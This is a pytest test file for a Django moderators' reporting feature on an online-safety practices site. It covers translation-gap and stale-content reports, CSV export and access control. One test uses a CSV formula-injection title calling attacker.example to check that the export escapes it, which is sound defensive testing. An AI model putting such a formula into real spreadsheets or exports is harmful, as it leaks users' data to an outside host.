"""Moderators' reports: practices missing a language, and practices not updated for two years."""

import csv
import io
from datetime import timedelta
from unittest import mock

import pytest
from django.urls import reverse
from django.utils import timezone

from practices.models import PracticePage
from tests.conftest import practice
from tests.practices.conftest import EU_NGO

pytestmark = pytest.mark.django_db

EU_TITLE = "Family online safety evenings"
JP_TITLE = "親子のスマホ教室"
BILINGUAL_TITLE = "Helpline for teenagers"
OLD_TITLE = "Safer Internet Day 2023 quiz"


@pytest.fixture
def bilingual(accounts, import_lines):
    import_lines(
        practice(
            "bilingual-helpline",
            en=(BILINGUAL_TITLE, "A chat helpline for teenagers."),
            ja=("十代のための相談窓口", "チャットで相談できる窓口です。"),
            organisation=EU_NGO,
        )
    )


def test_translation_gaps_lists_practices_missing_a_language(signed_in, bilingual):
    html = signed_in("moderator").get(reverse("practices_reports:translation_gaps")).content.decode()
    assert EU_TITLE in html and JP_TITLE in html
    assert BILINGUAL_TITLE not in html


def test_translation_gaps_filters_by_the_missing_language(signed_in, bilingual):
    url = reverse("practices_reports:translation_gaps")
    html = signed_in("moderator").get(url, {"missing": "ja"}).content.decode()
    assert EU_TITLE in html
    assert JP_TITLE not in html


def test_translation_gaps_exports_csv(signed_in, bilingual):
    response = signed_in("moderator").get(reverse("practices_reports:translation_gaps"), {"export": "csv"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8")
    assert EU_TITLE in content and JP_TITLE in content and BILINGUAL_TITLE not in content


def test_stale_lists_imported_practices_nobody_has_updated_for_two_years(signed_in, bilingual, import_lines):
    three_years_ago = timezone.now() - timedelta(days=3 * 365)
    # Imported three years ago and never edited since: its first revision is all it has.
    with mock.patch("django.utils.timezone.now", return_value=three_years_ago):
        import_lines(practice("old-campaign", en=(OLD_TITLE, "A campaign from long ago."), organisation=EU_NGO))
    html = signed_in("moderator").get(reverse("practices_reports:stale")).content.decode()
    assert OLD_TITLE in html
    assert EU_TITLE not in html and JP_TITLE not in html and BILINGUAL_TITLE not in html


def test_stale_leaves_out_an_old_practice_edited_since(signed_in, bilingual, import_lines):
    with mock.patch("django.utils.timezone.now", return_value=timezone.now() - timedelta(days=3 * 365)):
        import_lines(practice("old-campaign", en=(OLD_TITLE, "A campaign from long ago."), organisation=EU_NGO))
    page = PracticePage.objects.get(slug="old-campaign")
    page.summary_en = "Still running."
    page.save_revision().publish()
    assert OLD_TITLE not in signed_in("moderator").get(reverse("practices_reports:stale")).content.decode()


@pytest.mark.parametrize("name", ["translation_gaps", "stale"])
def test_editors_cannot_open_the_reports(signed_in, accounts, name):
    response = signed_in("ngo_eu").get(reverse(f"practices_reports:{name}"))
    assert response.status_code in (302, 403)
    assert JP_TITLE not in response.content.decode()


def test_reports_are_in_the_moderators_menu_only(signed_in, accounts):
    url = reverse("practices_reports:translation_gaps")
    assert url in signed_in("moderator").get(reverse("wagtailadmin_home")).content.decode()
    assert url not in signed_in("ngo_eu").get(reverse("wagtailadmin_home")).content.decode()


def test_translation_gaps_csv_keeps_a_formula_title_as_text(signed_in, accounts, import_lines):
    formula = '=HYPERLINK("https://attacker.example/?x="&A1,"Click")'
    import_lines(practice("formula-title", en=(formula, "A title a spreadsheet would run."), organisation=EU_NGO))
    response = signed_in("moderator").get(reverse("practices_reports:translation_gaps"), {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))
    titles = [row[0] for row in rows]
    assert "'" + formula in titles
    assert formula not in titles
    assert EU_TITLE in titles  # ordinary titles are written as they are
